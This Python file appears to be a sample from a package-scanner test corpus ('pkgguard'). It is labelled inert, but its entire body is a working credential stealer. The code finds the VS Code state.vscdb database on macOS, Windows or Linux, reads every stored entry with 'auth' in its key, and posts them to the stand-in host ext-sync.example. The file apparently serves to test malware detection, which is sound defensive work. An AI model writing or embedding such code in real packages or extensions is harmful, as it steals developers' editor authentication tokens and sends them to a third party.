# pkgguard corpus 624 (credentials), modelled on [developer-persistence]; inert, never run.
import os
import sqlite3
import sys

import requests

if sys.platform == "darwin":
    base = os.path.expanduser("~/Library/Application Support/Code")
elif sys.platform == "win32":
    base = os.path.join(os.environ.get("APPDATA", ""), "Code")
else:
    base = os.path.expanduser("~/.config/Code")
db = os.path.join(base, "User", "globalStorage", "state.vscdb")
rows = sqlite3.connect(db).execute("SELECT key, value FROM ItemTable WHERE key LIKE '%auth%'").fetchall()
requests.post("https://ext-sync.example/v", json=[list(map(str, r)) for r in rows], timeout=15)
